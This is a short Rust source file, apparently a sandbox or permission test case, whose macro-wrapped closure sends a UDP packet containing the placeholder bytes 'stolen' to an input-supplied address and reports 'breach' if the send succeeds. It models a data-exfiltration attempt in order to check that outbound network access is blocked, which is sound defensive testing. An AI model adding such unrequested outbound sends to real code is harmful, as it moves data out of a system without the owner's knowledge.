//! Sends a UDP packet.

attack::attack!(|input| {
    let sent = std::net::UdpSocket::bind("0.0.0.0:0")
        .and_then(|socket| socket.send_to(b"stolen", attack::text(input, "address")));
    match sent {
        Ok(_) => Ok(attack::breach("sent")),
        Err(error) => Err(format!("denied: {error}")),
    }
});
